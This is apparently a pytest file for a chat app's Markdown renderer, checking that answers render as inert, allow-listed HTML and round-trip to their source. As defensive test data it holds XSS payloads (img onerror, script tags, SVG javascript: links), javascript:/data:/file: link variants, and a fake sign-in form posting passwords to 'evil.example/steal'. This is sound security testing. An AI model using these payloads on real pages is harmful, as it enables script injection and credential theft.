"""Chat text through ``render_markdown`` and ``chatbot``: what reaches the page is only the
markup the app allows (elements, classes, attributes, http/https/mailto links), hostile text
shows as the characters it is, code literally, and the round trip gives back the source.

The page's own parse is checked in tests/test_browser_hostile.py; here the HTML is read with
the standard library's HTMLParser (as a browser would tokenise it)."""

from __future__ import annotations

import html
import random
from html.parser import HTMLParser

import pytest

from contextpilot.ui import render_markdown as rm
from contextpilot.ui.chat_handlers import HISTORY_BUDGET, ollama_history
from contextpilot.ui.chatbot import shown_messages, source_messages
from contextpilot.ui.render_markdown import Live, Memo, render_parts, source_of
from contextpilot.ui.safe_chatbot import SafeChatbot

ALLOWED = {  # element -> attributes the page may get (class values checked apart)
    "div": {"class", "data-source"}, "p": set(), "br": set(), "hr": set(),
    **{f"h{i}": set() for i in range(1, 7)}, "blockquote": set(), "ul": set(),
    "ol": {"start"}, "li": set(), "pre": set(), "code": set(), "em": set(), "strong": set(),
    "s": set(), "a": {"href", "title", "rel", "target"}, "table": set(), "thead": set(),
    "tbody": set(), "tr": set(), "th": {"class"}, "td": {"class"},
    "button": {"class", "type", "title"}, "span": {"class"},
}
CLASSES = {"cp-md", "prose", "cp-plain", "code_wrap", "copy_code_button", "copy-text", "check",
           "cp-left", "cp-center", "cp-right"}
SCHEMES = ("http://", "https://", "mailto:")

IMG = '<img src=x onerror="window.__pwned=1">'
SCRIPT = "<script>window.__pwned=1</script>"
SVG = ("<svg><a href=\"javascript:window.__pwned=1\"><text y=20>click</text></a>"
       "<a xlink:href=\"javascript:window.__pwned=1\"><text y=40>me</text></a></svg>")
FORM = ('<form action="https://evil.example/steal" method=post><input name=p type=password>'
        '<button>Sign in</button></form>')
JS = "javascript:window.__pwned=1"

# Hostile answers, by what they try (tests/test_browser_hostile.py shows each in the page)
HOSTILE = {
    "latex $$ around a span": f"$$ `{IMG}` $$ and $$x$$",
    "latex $$ around a fence": f"$$\n```\n{FORM}\n```\n$$",
    "latex $ around backticks": f"$a`{SVG}`b$ and $`x`$",
    "latex \\( \\) around a span": f"\\( `{IMG}` \\) then \\(x\\)",
    "latex \\[ \\] around a fence": f"\\[\n```\n{SCRIPT}\n```\n\\]",
    "latex across a span": f"`$$` {FORM} `$$`",
    "latex cut splits a span": f"$$ `x $$ {FORM} {SVG} `",  # the attack
    "prose": f"Look: {IMG} {SCRIPT} {SVG} {FORM}",
    "html block": f"{FORM}\n\n{SVG}",
    "list": f"- {IMG}\n- {SVG}\n  1. {FORM}",
    "table": f"| a | b |\n|---|---|\n| {IMG} | {SVG} |\n| `{FORM}` | {SCRIPT} |",
    "blockquote": f"> {IMG}\n> > {SVG}\n{FORM}",
    "heading": f"# {IMG}\n{SVG}\n---",
    "link text": f"[{IMG}](https://example.com) [x {SVG}](https://example.com)",
    "link title": f'[x](https://example.com "{IMG}")',
    "javascript link": f"[a]({JS}) [b](JaVaScRiPt:alert(1)) [c](&#106;avascript:alert(1)) "
                       f"[d](java&#x73;cript:alert(1)) [e]( javascript:alert(1))",
    "data and vbscript links": "[a](data:text/html;base64,PHNjcmlwdD4=) [b](vbscript:msgbox) "
                               "[c](DATA:text/html,x) [d](file:///etc/passwd)",
    "autolinks": f"<{JS}> <data:text/html,x> <https://example.com/`x`> <mailto:a@b.c>",
    "relative and protocol-relative": "[a](/gradio_api/delete) [b](//evil.example) [c](#x)",
    "images": f"![x]({JS}) ![y](https://example.com/p.png) ![{IMG}](data:image/png;base64,AA)",
    "reference links": f"[a][r] [b]\n\n[r]: {JS}\n[b]: https://example.com",
    "entities": "&lt;script&gt; &#60;img src=x onerror=1&#62; &amp;lt; &#x3C;b&#x3E; &#0;",
    "crlf": f"a\r\n```\r\n{SCRIPT}\r\n```\r\n{IMG}\r",
    "lone cr": f"a\r```\r<p>\r```\r{IMG}",
    "unclosed fence": f"Here:\n```html\n{FORM}\n<p>",
    "unclosed span": f"see `{IMG}",
    "unclosed link": f"[{IMG}]({JS}",
    "unclosed comment": f"<!-- {IMG}",
    "mermaid": f"```mermaid\ngraph TD; A-->B{IMG}\n```",
    "custom tags": "<thinking>x</thinking> <gradio-app></gradio-app> <cp-md>",
    "our own carrier": f'<div class="cp-md prose" data-source="{html.escape(IMG)}">{IMG}</div>',
    "null and nbsp": f"\x00{IMG}\u00a0{SCRIPT}",
    "deep nesting": "> " * 60 + IMG + "\n" + "- " * 60 + SVG,
}

# (what the model wrote, what the code elements show)
CODE = {
    "fence in a list item": ("1. Make a page:\n\n    ```html\n    <p>hi</p>\n    ```\n2. Done.",
                             ["<p>hi</p>\n"]),
    "indented code": ("Run:\n\n    if a < b && c:\n        print('<p>')\n\nDone.",
                      ["if a < b && c:\n    print('<p>')\n"]),
    "nested fences": ("````md\n```html\n<p>x</p>\n```\n````", ["```html\n<p>x</p>\n```\n"]),
    "tilde fence with an entity": ("~~~\n<b>&amp;</b>\n~~~", ["<b>&amp;</b>\n"]),
    "inline code": ("Use `a < b && c` here", ["a < b && c"]),
    "double backticks": ("`` a ` <b> ``", ["a ` <b>"]),
    "blockquote fence": ("> ```\n> <p>quoted</p>\n> ```", ["<p>quoted</p>\n"]),
    "table cell": ("| a | b |\n|---|---|\n| `<i>` | `x \\| <y>` |", ["<i>", "x | <y>"]),
    "heading": ("## The `<head>` tag", ["<head>"]),
    "latex inside code": ("`$$<b>$$` and\n```\n\\(<i>\\) $x$\n```", ["$$<b>$$", "\\(<i>\\) $x$\n"]),
    "crlf": ("a\r\n```\r\n<p>&&</p>\r\n```\r\n", ["<p>&&</p>\n"]),
    "unclosed fence": ("Here:\n```html\n<div class='a'>\n  <p>", ["<div class='a'>\n  <p>"]),
    "tabs": ("```\n\t<p>\t&&</p>\n```", ["\t<p>\t&&</p>\n"]),
}


class Page(HTMLParser):
    """What a browser's tokeniser finds in the HTML: elements, attributes, text, code."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.html = text
        self.bad: list = []
        self.text: list[str] = []
        self.code: list[str] = []
        self.depth = 0
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED:
            self.bad.append(("element", tag))
        for name, value in attrs:
            if name not in ALLOWED.get(tag, set()):
                self.bad.append(("attribute", tag, name))
            if name == "class" and set((value or "").split()) - CLASSES:
                self.bad.append(("class", tag, value))
            if name == "href" and not (value or "").lower().startswith(SCHEMES):
                self.bad.append(("url", value))
        if tag == "code":
            self.depth += 1
            self.code.append("")

    def handle_endtag(self, tag):
        if tag == "code":
            self.depth -= 1

    def handle_data(self, data):
        self.text.append(data)
        if self.depth:
            self.code[-1] += data

    def handle_comment(self, data):
        self.bad.append(("comment", data))


def page(text: str) -> Page:
    return Page("".join(render_parts(text)))


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_is_inert_and_shown_as_written(name):
    answer = HOSTILE[name]
    shown = page(answer)
    assert shown.bad == []
    if name == "deep nesting":  # markdown-it stops at 20 levels: what is deeper is not shown
        return
    text = "".join(shown.text)
    for tag in ("<img", "<script", "<svg", "<form"):  # each shows as the characters it is
        if tag in answer:
            assert tag in text, (tag, text)


@pytest.mark.parametrize("answer, code", CODE.values(), ids=list(CODE))
def test_code_shows_its_characters_literally(answer, code):
    shown = page(answer)
    assert shown.bad == []
    assert shown.code == code


def test_links_keep_only_http_https_and_mailto():
    shown = page("[a](https://a.example/x) [b](http://b.example) [c](mailto:c@d.e) "
                 f"[d]({JS}) ![e](https://e.example/e.png)")
    links = [a for a in shown.html.split('href="')[1:]]
    assert [link.split('"')[0] for link in links] == [
        "https://a.example/x", "http://b.example", "mailto:c@d.e", "https://e.example/e.png"]
    assert 'target="_blank" rel="noopener noreferrer nofollow"' in shown.html
    assert "[d](javascript:window.__pwned=1)" in "".join(shown.text)  # shown, not linked


def test_markdown_still_works():
    shown = page("# T\n\n- a\n- **b** *c* ~~d~~\n\n> q\n\n| x | y |\n|:-|-:|\n| 1 | 2 |\n\n---")
    for tag in ("<h1>", "<ul>", "<strong>", "<em>", "<s>", "<blockquote>", "<table>",
                '<th class="cp-left">', '<td class="cp-right">', "<hr>"):
        assert tag in shown.html
    assert '<button class="copy_code_button"' in page("```\nx\n```").html


def test_an_answer_saved_by_the_previous_version_renders_as_its_page_did():
    """The previous version kept answers as Markdown with prose HTML escaped (``&lt;``) and
    code raw: the reader saw ``<b>`` in both, and sees it again."""
    old = "Tags like &lt;b> and &amp;amp; in prose, `<i>` in code\n\n```\n<p>a && b</p>\n```"
    shown = page(old)
    assert shown.bad == []
    assert "Tags like <b> and &amp; in prose, <i> in code" in "".join(shown.text)
    assert shown.code == ["<i>", "<p>a && b</p>\n"]


PIECES = [
    "- ", "1. ", "2. ", "> ", "    ", "\t", "```", "````", "~~~", "`", "``", "$$", "$", "\\(",
    "\\)", "\\[", "\\]", "\\", "|", "|---|", "| a | b |\n", "---", "===", "\n", "\n", "\n\n",
    "\r\n", "\r", " ", "a", "b c", "*", "_", "#", "[x](https://y)", "[", "](", ")", "![", "<",
    ">", "&", "&amp;", "&#", "<!--", "-->", IMG, SCRIPT, SVG, FORM, JS, "<a href=", '"', "'",
    "\x00", "\u00a0", "word " * 40,
]


def fragments(seed: int, count: int, size: int = 60):
    rng = random.Random(seed)
    for _ in range(count):
        yield "".join(rng.choice(PIECES) for _ in range(rng.randint(1, size)))


@pytest.mark.parametrize("seed", [1, 2, 3])
def test_random_text_is_inert_and_round_trips(seed):
    for text in fragments(seed, 400):
        parts = render_parts(text)
        assert Page("".join(parts)).bad == [], text
        assert "".join(source_of(p) for p in parts) == text


def test_every_prefix_of_a_streamed_answer_is_inert_and_renders_as_a_whole():
    """While an answer streams it is rendered from its memo (final parts kept): every prefix
    is inert, and the parts equal those of the same text rendered at once."""
    for text in [*HOSTILE.values(), *(a for a, _ in CODE.values()),
                 *fragments(7, 12, 80), ("word " * 50 + "\n\n") * 30 + "```\n" + IMG * 30]:
        memo, checked = Memo(), 0
        for end in range(len(text) + 1):
            parts = render_parts(text[:end], memo)
            assert Page("".join(parts[checked:])).bad == [], text[:end]
            checked = len(parts) - 1  # the parts before the last are final: checked once
        assert parts == render_parts(text)


def test_a_long_answer_is_sent_as_final_parts_and_one_that_grows():
    text = "".join(f"Paragraph {i}: `<b>` & more words here.\n\n" for i in range(2000))
    memo = Memo()
    first = render_parts(text[:50_000], memo)
    later = render_parts(text, memo)
    # only the last two changed: the final blocks not yet closed, and the block still growing
    assert len(first) > 10 and later[:len(first) - 2] == first[:-2]
    assert memo.source and text.startswith(memo.source)


# ----------------------------------------------------------------------------- the chat value


def test_the_round_trip_gives_back_the_source_and_escapes_titles():
    history = [
        {"role": "user", "content": f"what does {IMG} do? a < b & c"},
        {"role": "assistant", "content": "⚠️ Cannot \\<connect\\>", "metadata": None},
        {"role": "assistant", "content": "thinking `<x>`",
         "metadata": {"title": f"Thought {IMG} & co", "status": "done"}},
        {"role": "assistant",
         "content": HOSTILE["table"] + "\n\n" + "word " * 2000 + "\n\nend\n\nmore"},
    ]
    shown = shown_messages(history)
    assert shown[2]["metadata"]["title"] == html.escape(f"Thought {IMG} & co")
    for m in shown:
        for item in m["content"]:
            assert Page(item["text"]).bad == []
    assert len(shown[3]["content"]) > 1  # in parts
    back = source_messages(shown)
    assert [(m["role"], m["content"][0]["text"], (m.get("metadata") or {}).get("title"))
            for m in back] == [(m["role"], m["content"], (m.get("metadata") or {}).get("title"))
                               for m in history]


def test_the_chatbot_renders_what_it_sends_and_reads_back_text():
    bot = SafeChatbot()
    value = bot.postprocess([{"role": "user", "content": IMG},
                             {"role": "assistant", "content": Live.of(f"`{IMG}`")}])
    texts = [c.text for m in value.root for c in m.content]
    assert all(t.startswith('<div class="cp-md') for t in texts)
    assert bot.preprocess(value) == [
        {"role": "user", "metadata": None, "content": [{"type": "text", "text": IMG}],
         "options": None},
        {"role": "assistant", "metadata": None, "content": [{"type": "text", "text": f"`{IMG}`"}],
         "options": None}]


def test_a_crafted_history_is_parsed_only_within_the_budget(mocker):
    """A visitor sends the history with every message: texts beyond the budget (what is sent
    to Ollama) are shown as they are, not parsed; nothing is parsed to read them back."""
    rm.CACHE.items.clear()
    rm.CACHE.size = 0
    spy = mocker.spy(rm, "render_parts")
    old = [{"role": "assistant", "content": "[" * 99_000 + f"{i}"} for i in range(10)]
    new = [{"role": "user", "content": "hi"}, {"role": "assistant", "content": "a `&` b"}]
    shown = shown_messages(old + new)
    assert sum(len(c.args[0]) for c in spy.call_args_list) <= HISTORY_BUDGET
    assert 'class="cp-md cp-plain"' in shown[0]["content"][0]["text"]
    assert Page(shown[0]["content"][0]["text"]).bad == []
    spy.reset_mock()
    source = source_messages(shown)
    sent = ollama_history(source)
    assert spy.call_count == 0
    assert sent[-2:] == [{"role": "user", "content": "hi"},
                         {"role": "assistant", "content": "a `&` b"}]
    shown_messages(old + new)  # the next update: the history is rendered already
    assert spy.call_count == 0


def test_live_text_is_rendered_whatever_its_size():
    big = Live.of("word " * 100_000, Memo())
    shown = shown_messages([{"role": "assistant", "content": big}])
    assert 'class="cp-md prose"' in shown[0]["content"][-1]["text"]
